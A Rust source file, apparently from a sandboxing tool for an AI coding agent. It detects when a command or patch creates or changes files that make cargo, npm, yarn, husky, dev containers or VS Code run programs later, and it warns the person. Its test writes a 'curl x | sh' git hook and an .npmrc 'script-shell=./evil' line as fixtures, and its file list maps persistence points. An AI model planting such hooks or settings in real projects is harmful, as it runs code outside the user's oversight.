//! Files in a project that make the person's own tools run a program later, outside kelp and
//! its sandbox: cargo's config (`build.rustc-wrapper`), npm's (`script-shell`), yarn's and
//! pnpm's, git hook managers', a dev container, editor tasks. Codex lets commands write them too;
//! a project may need them. kelp lets them be written and says so where the person looks, on
//! every face, naming the file and what it can run, whenever a command or a patch creates or
//! changes one.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// Each file or folder, relative to the project, and what runs it.
const RUNS_LATER: [(&str, &str); 11] = [
    (
        ".cargo/config.toml",
        "cargo runs the programs it names (a rustc wrapper, a runner) when you build",
    ),
    (
        ".cargo/config",
        "cargo runs the programs it names (a rustc wrapper, a runner) when you build",
    ),
    (
        ".npmrc",
        "npm runs the shell it names for scripts (script-shell) when you install or run",
    ),
    (
        ".yarnrc",
        "yarn runs the programs it names when you install",
    ),
    (
        ".yarnrc.yml",
        "yarn runs the release and plugins it names (yarnPath) on every yarn command",
    ),
    (".pnpmfile.cjs", "pnpm runs it when you install"),
    (
        ".pre-commit-config.yaml",
        "pre-commit runs the hooks it names when you commit",
    ),
    (".husky", "husky's hooks run when you commit"),
    (
        ".devcontainer",
        "your editor builds and runs the container it describes",
    ),
    (
        ".vscode/tasks.json",
        "VS Code runs its tasks, some as the folder opens",
    ),
    (
        ".vscode/settings.json",
        "VS Code and its extensions run the programs it names",
    ),
];

/// The most entries looked at beneath one of the folders.
const MAX_ENTRIES: usize = 256;

/// What one path is: each entry beneath it (itself first) by name, inode, change time and size.
type Stamp = Vec<(PathBuf, u64, i64, i64, u64)>;

/// The files of [`RUNS_LATER`] as a command found them.
#[derive(Debug, Default)]
pub struct Watch {
    stamps: Vec<Stamp>,
}

impl Watch {
    /// Looks at each of the files in `project_dir` before a command runs.
    pub fn before(project_dir: &Path) -> Self {
        Self {
            stamps: RUNS_LATER
                .iter()
                .map(|(rel, _)| stamp(&project_dir.join(rel)))
                .collect(),
        }
    }

    /// What to tell the person once the command has ended, if it created or changed any.
    pub fn after(&self, project_dir: &Path) -> Option<String> {
        let changed: Vec<&(&str, &str)> = RUNS_LATER
            .iter()
            .zip(&self.stamps)
            .filter(|((rel, _), before)| stamp(&project_dir.join(rel)) != **before)
            .map(|(entry, _)| entry)
            .collect();
        said("the command", &changed)
    }
}

/// What to tell the person when a patch touched any of the files.
pub fn touched_by_patch(paths: &[&Path], project_dir: &Path) -> Option<String> {
    let touched: Vec<&(&str, &str)> = RUNS_LATER
        .iter()
        .filter(|(rel, _)| {
            let watched = project_dir.join(rel);
            paths.iter().any(|path| path.starts_with(&watched))
        })
        .collect();
    said("a patch", &touched)
}

fn said(what: &str, changed: &[&(&str, &str)]) -> Option<String> {
    if changed.is_empty() {
        return None;
    }
    let named: Vec<String> = changed
        .iter()
        .map(|(rel, runs)| format!("{rel} ({runs})"))
        .collect();
    Some(format!(
        "{what} created or changed {}: read it before you next run that tool",
        named.join("; ")
    ))
}

/// The entries of `path` (itself, and beneath it when it is a folder, at most
/// [`MAX_ENTRIES`]), walked without following links on a stack of its own.
fn stamp(path: &Path) -> Stamp {
    let mut out = Vec::new();
    let mut todo = vec![path.to_path_buf()];
    while let Some(at) = todo.pop() {
        if out.len() >= MAX_ENTRIES {
            break;
        }
        let Ok(meta) = at.symlink_metadata() else {
            continue;
        };
        if meta.is_dir() {
            todo.extend(
                std::fs::read_dir(&at)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .map(|entry| entry.path()),
            );
        }
        out.push((at, meta.ino(), meta.ctime(), meta.ctime_nsec(), meta.size()));
    }
    out.sort();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_created_or_changed_file_is_named_with_what_runs_it() {
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        std::fs::write(root.join(".npmrc"), "registry=x\n").unwrap();
        let watch = Watch::before(root);
        assert_eq!(watch.after(root), None, "nothing changed");
        std::fs::create_dir_all(root.join(".cargo")).unwrap();
        std::fs::write(
            root.join(".cargo/config.toml"),
            "[build]\nrustc-wrapper = \"./w\"\n",
        )
        .unwrap();
        std::fs::create_dir_all(root.join(".husky")).unwrap();
        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
        let said = watch.after(root).unwrap();
        assert!(said.contains(".cargo/config.toml (cargo runs"), "{said}");
        assert!(said.contains(".husky (husky's hooks"), "{said}");
        assert!(!said.contains(".npmrc"), "{said}");

        let watch = Watch::before(root);
        std::fs::write(root.join(".npmrc"), "script-shell=./evil\n").unwrap();
        assert!(watch.after(root).unwrap().contains(".npmrc (npm runs"));
        assert!(
            touched_by_patch(&[&root.join(".devcontainer/devcontainer.json")], root)
                .unwrap()
                .starts_with("a patch created or changed .devcontainer")
        );
        assert_eq!(touched_by_patch(&[&root.join("src/main.rs")], root), None);
    }
}
